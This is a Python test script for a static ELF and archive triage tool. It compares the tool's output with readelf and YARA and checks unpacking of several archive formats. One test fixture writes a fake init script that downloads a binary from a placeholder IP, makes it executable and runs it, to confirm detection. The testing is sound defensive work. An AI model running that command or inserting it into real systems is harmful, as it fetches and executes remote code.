"""Static triage against other people's programs: readelf (binutils), YARA's own hashes, and the packers of archives.

The programs that are looked at are those of a few Debian packages for processors that connected devices have, fetched by
`apt-get` into target/lab/triage without a change to this machine's package lists, once. Needs `apt-get`, `dpkg-deb`,
`readelf`, `mksquashfs`, `cpio`. Run it from the root of the repository after a build:

    python3 tests/lab/triage_oracle.py [CHECK…]
"""

import bz2
import collections
import gzip
import hashlib
import io
import json
import lzma
import os
import pathlib
import re
import shutil
import subprocess
import sys
import tarfile
import tempfile
import zipfile

ROOT = pathlib.Path(__file__).resolve().parents[2]
KOMAINU = os.environ.get("KOMAINU", str(ROOT / "target/debug/komainu"))
CORPUS = pathlib.Path(os.environ.get("TRIAGE_CORPUS", ROOT / "target/lab/triage"))

# Some 35 MB to fetch: many programs in few packages.
ARCHITECTURES = ("armel", "armhf", "arm64", "i386", "mipsel", "mips64el", "ppc64el", "s390x")
PACKAGES = ("coreutils", "busybox-static", "dash")
ELF_FILES_MIN = 500

# Programs of the cross compilers, for what Debian has no packages for.
CROSS_LIBRARIES = (
    "mips-linux-gnu", "powerpc-linux-gnu", "sh4-linux-gnu", "riscv64-linux-gnu", "sparc64-linux-gnu", "m68k-linux-gnu"
)

COMMAND_TIME_S = 600

CHECKS = []


def check(function):
    CHECKS.append(function)
    return function


def run(*command, **options):
    options.setdefault("stdout", subprocess.PIPE)
    options.setdefault("stderr", subprocess.PIPE)
    return subprocess.run([str(word) for word in command], check=True, timeout=COMMAND_TIME_S, **options).stdout


def equal(seen, expected, what=""):
    if seen != expected:
        raise AssertionError(f"{what}: {seen!r} instead of {expected!r}")


def fetch():
    """Fetches and unpacks the packages, unless that was done."""
    done = CORPUS / "done"
    if done.exists():
        return
    shutil.rmtree(CORPUS, ignore_errors=True)
    for folder in ("apt/lists/partial", "apt/cache/archives/partial", "deb", "files"):
        (CORPUS / folder).mkdir(parents=True)
    apt = CORPUS / "apt"
    options = [
        "-o", f"Dir::State::Lists={apt / 'lists'}", "-o", f"Dir::Cache={apt / 'cache'}",
        "-o", "Dir::State::status=/dev/null", "-o", "Acquire::Languages=none", "-o", "APT::Sandbox::User=root",
        "-o", f"APT::Architectures={','.join(ARCHITECTURES)}",
    ]
    # A mirror that is just being renewed lacks one list; the packages are in another.
    subprocess.run(["apt-get", *options, "update"], timeout=COMMAND_TIME_S, capture_output=True)
    wanted = [f"{package}:{architecture}" for architecture in ARCHITECTURES for package in PACKAGES]
    run("apt-get", *options, "download", *wanted, cwd=CORPUS / "deb")
    for package in sorted((CORPUS / "deb").iterdir()):
        run("dpkg-deb", "-x", package, CORPUS / "files" / package.stem)
    shutil.rmtree(apt)
    done.touch()


def elf_files(folder):
    for path in sorted(folder.rglob("*")):
        if path.is_file() and not path.is_symlink():
            with open(path, "rb") as file:
                if file.read(4) == b"\x7fELF":
                    yield path


def triage(*paths, more=()):
    """The reports of komainu, by file."""
    lines = run(KOMAINU, "triage", "--json", *more, *paths).decode().splitlines()
    return {line["file"]: line["report"] for line in map(json.loads, lines)}


FIELDS = {
    "class": r"^  Class: +ELF(\d+)$",
    "order": r"^  Data: +2's complement, (little|big) endian$",
    "type": r"^  Type: +(\w+)",
    "entry": r"^  Entry point address: +0x([0-9a-f]+)$",
    "flags": r"^  Flags: +0x([0-9a-f]+)",
    "programs": r"^  Number of program headers: +(\d+)",
    "sections": r"^  Number of section headers: +(\d+)(?: \((\d+)\))?",
    "interpreter": r"^ +\[Requesting program interpreter: (.*)\]$",
    "build_id": r"\bBuild ID: ([0-9a-f]+)$",
}
TYPES = {"EXEC": "executable", "DYN": "shared", "REL": "object", "CORE": "core"}
# What readelf calls a machine, and its number.
MACHINES = {
    "ARM": 40, "AArch64": 183, "Intel 80386": 3, "MIPS R3000": 8, "PowerPC64": 21, "IBM S/390": 22, "PowerPC": 20,
    "Renesas / SuperH SH": 42, "RISC-V": 243, "Sparc v9": 43, "MC68000": 4, "Advanced Micro Devices X86-64": 62,
}


def readelf(paths):
    """What readelf says, by file."""
    said = {}
    paths = list(map(str, paths))
    for start in range(0, len(paths), 100):
        batch = paths[start : start + 100]
        # One more file, so that a single one is named as well.
        output = run("readelf", "-W", "-h", "-l", "-d", "-n", *batch, batch[0], env={"LC_ALL": "C", "PATH": os.environ["PATH"]})
        parts = re.split(r"^\nFile: (.*)$", output.decode(errors="replace"), flags=re.M)
        for name, text in zip(parts[1::2], parts[2::2]):
            facts = {}
            for key, pattern in FIELDS.items():
                found = re.search(pattern, text, re.M)
                facts[key] = found.group(1) if found else None
            facts["machine"] = re.search(r"^  Machine: +(.*)$", text, re.M).group(1)
            facts["needed"] = re.findall(r"\(NEEDED\) +Shared library: \[(.*)\]$", text, re.M)
            said[name] = facts
    return said


def differences(report, facts):
    elf = report["samples"][0]["elf"]
    ours = {
        "class": str(elf["class_bits"]),
        "order": elf["byte_order"],
        "machine": elf["machine"],
        "type": elf["file_type_name"],
        "entry": f"{elf['entry']:x}",
        "flags": elf["flags"],
        "programs": str(elf["program_headers"]),
        "sections": str(elf["section_headers"]),
        "interpreter": elf["interpreter"],
        "build_id": elf["build_id"],
        "needed": elf["needed"],
    }
    theirs = dict(facts, type=TYPES[facts["type"]], flags=int(facts["flags"], 16), machine=MACHINES[facts["machine"]])
    return {key: (ours[key], theirs[key]) for key in ours if ours[key] != theirs[key]}


class Scene:
    def __init__(self):
        fetch()
        self.files = [str(path) for path in elf_files(CORPUS / "files")]
        for target in CROSS_LIBRARIES:
            folder = pathlib.Path("/usr") / target / "lib"
            if folder.is_dir():
                self.files += [str(path) for path in elf_files(folder)][:40]
        self.reports = triage(*self.files)


@check
def elf_headers_are_as_readelf_has_them(scene):
    facts = readelf(scene.files)
    compared = collections.Counter()
    wrong = {}
    for name in scene.files:
        different = differences(scene.reports[name], facts[name])
        if different:
            wrong[name] = different
        compared[scene.reports[name]["samples"][0]["elf"]["isa"]] += 1
    print(f"  compared {sum(compared.values())} files: {dict(compared.most_common())}")
    for name, different in list(wrong.items())[:5]:
        print(f"  {name}: {different}")
    equal(len(wrong), 0, "files that differ")
    if sum(compared.values()) < ELF_FILES_MIN:
        raise AssertionError(f"only {sum(compared.values())} files")


@check
def import_hashes_and_telfhash_are_as_yara_has_them(scene):
    with tempfile.TemporaryDirectory() as folder:
        rules = pathlib.Path(folder) / "hashes.yar"
        chosen = scene.files[::7]
        text, expected = ['import "elf"\nimport "hash"\n'], 0
        for number, name in enumerate(chosen):
            sample = scene.reports[name]["samples"][0]
            its = f'hash.md5(0, filesize) == "{sample["digests"]["md5"]}"'
            for key, call in (("telfhash", "elf.telfhash()"), ("import_md5", "elf.import_md5()")):
                value = sample["elf"][key]
                # Where we have none, YARA has none either.
                condition = f'{call} == "{value}"' if value else f"not defined {call}"
                if key == "import_md5" and not value:
                    continue
                text.append(f"rule {key}_{number} {{ condition: {its} and {condition} }}\n")
        rules.write_text("".join(text))
        again = triage(*chosen, more=("--yara", rules))
        wrong = []
        for number, name in enumerate(chosen):
            hits = {hit["rule"] for hit in again[name]["samples"][0]["rules"]}
            for key in ("telfhash", "import_md5"):
                if f"rule {key}_{number} " in "".join(text):
                    expected += 1
                    if f"{key}_{number}" not in hits:
                        wrong.append((name, key, scene.reports[name]["samples"][0]["elf"][key]))
        print(f"  compared {expected} hashes of {len(chosen)} files, {len(wrong)} differ")
        equal([one for one in wrong if one[1] == "import_md5"][:3], [], "import hashes differ")
        # The TLSH of YARA-X 1.22 is another one than that of the reference implementation for some 3 of 100 texts; where
        # both differ, ours is that of the reference (py-tlsh 4.12).
        if len(wrong) * 20 > len(chosen):
            raise AssertionError(f"{len(wrong)} hashes differ, such as {wrong[:3]}")


@check
def honest_programs_are_not_packed_nor_malicious(scene):
    entropies = collections.defaultdict(list)
    wrong = []
    for name, report in scene.reports.items():
        sample = report["samples"][0]
        code = [region for region in sample["elf"]["regions"] if "x" in region["access"] and region["bytes"] >= 4096]
        if code:
            entropies[sample["elf"]["isa"]].append(max(region["entropy_millibits"] for region in code))
        if sample["packing"]["verdict"] == "packed" or report["verdict"]["level"] == "malicious":
            wrong.append((name, sample["packing"], report["verdict"]))
    for isa, values in sorted(entropies.items()):
        print(f"  {isa:<9} {len(values):>4} files, highest entropy of code {max(values)}")
    equal(wrong[:3], [], f"{len(wrong)} honest programs")


@check
def archives_of_their_own_tools_are_unpacked(scene):
    script = b"#!/bin/sh\nwget http://192.0.2.1/a -O b; chmod 777 b; ./b\n"
    program = pathlib.Path(next(name for name in scene.files if "busybox" in name)).read_bytes()
    with tempfile.TemporaryDirectory() as folder:
        folder = pathlib.Path(folder)
        tree = folder / "tree"
        (tree / "etc/init.d").mkdir(parents=True)
        (tree / "etc/init.d/rcS").write_bytes(script)
        (tree / "busybox").write_bytes(program)
        (tree / "small").write_bytes(b"a text\n")
        made = {}

        def put(name, contents):
            (folder / name).write_bytes(contents)
            made[name] = folder / name

        put("a.gz", gzip.compress(script))
        put("a.xz", lzma.compress(script))
        put("a.bz2", bz2.compress(script))
        for name, mode in (("a.tar", "w"), ("a.tar.gz", "w:gz"), ("a.tar.xz", "w:xz")):
            buffer = io.BytesIO()
            with tarfile.open(fileobj=buffer, mode=mode) as archive:
                archive.add(tree, arcname=".")
            put(name, buffer.getvalue())
        with zipfile.ZipFile(folder / "a.zip", "w", zipfile.ZIP_DEFLATED) as archive:
            for path in tree.rglob("*"):
                archive.write(path, path.relative_to(tree))
        made["a.zip"] = folder / "a.zip"
        names = "\n".join(str(path.relative_to(tree)) for path in sorted(tree.rglob("*"))).encode()
        for name, kind in (("newc.cpio", "newc"), ("odc.cpio", "odc"), ("crc.cpio", "crc")):
            put(name, run("cpio", "--quiet", "-o", "-H", kind, input=names, cwd=tree))
        for compression in ("gzip", "xz"):
            image = folder / f"{compression}.squashfs"
            run("mksquashfs", tree, image, "-comp", compression, "-noappend", "-quiet")
            made[image.name] = image
        reports = triage(*made.values())
        digest = hashlib.sha256
        for name, path in made.items():
            seen = {sample["digests"]["sha256"] for sample in reports[str(path)]["samples"]}
            expected = {digest(script).hexdigest()}
            if not re.fullmatch(r"a\.(gz|xz|bz2)", name):
                expected |= {digest(program).hexdigest(), digest(b"a text\n").hexdigest()}
            equal(expected - seen, set(), f"{name}: {[sample['problems'] for sample in reports[str(path)]['samples']]}")
            if reports[str(path)]["verdict"]["level"] not in ("suspicious", "malicious"):
                raise AssertionError(f"{name}: {reports[str(path)]['verdict']}")


@check
def a_debian_package_is_unpacked_to_its_programs(scene):
    package = next(path for path in sorted((CORPUS / "deb").iterdir()) if path.name.startswith("busybox-static"))
    samples = triage(package)[str(package)]["samples"]
    kinds = collections.Counter(sample["kind"] for sample in samples)
    if kinds["ar"] != 1 or kinds["xz"] < 2 or kinds["tar"] < 2 or kinds["elf"] < 1:
        raise AssertionError(kinds)


@check
def a_run_over_a_folder_goes_on_after_it_was_killed(scene):
    with tempfile.TemporaryDirectory() as folder:
        folder = pathlib.Path(folder)
        for number, name in enumerate(scene.files[:300]):
            shutil.copy(name, folder / f"{number:03}")
        state = folder.parent / f"{folder.name}.state"
        command = [KOMAINU, "triage", "--resume", str(state), str(folder)]
        process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            # Killed when some are done: whichever line is being written then.
            while process.poll() is None and (not state.exists() or state.stat().st_size < 500_000):
                pass
            process.kill()
            process.wait(timeout=10)
            before = state.read_bytes().count(b"\n")
            if not 0 < before < 300:
                raise AssertionError(f"{before} files were done when it was killed")
            run(*command)
            files = [json.loads(line)["file"] for line in state.read_text().splitlines()]
            equal(sorted(files), [str(folder / f"{number:03}") for number in range(300)])
            print(f"  killed after {before} files")
        finally:
            state.unlink(missing_ok=True)


def main():
    scene = Scene()
    failed = 0
    for function in CHECKS:
        name = function.__name__
        if sys.argv[1:] and name not in sys.argv[1:]:
            continue
        try:
            function(scene)
            print(f"check triage {name} ... ok", flush=True)
        except Exception as error:  # noqa: BLE001 - whatever it is, the next check goes on
            failed += 1
            print(f"check triage {name} ... FAILED\n  {type(error).__name__}: {error}", flush=True)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
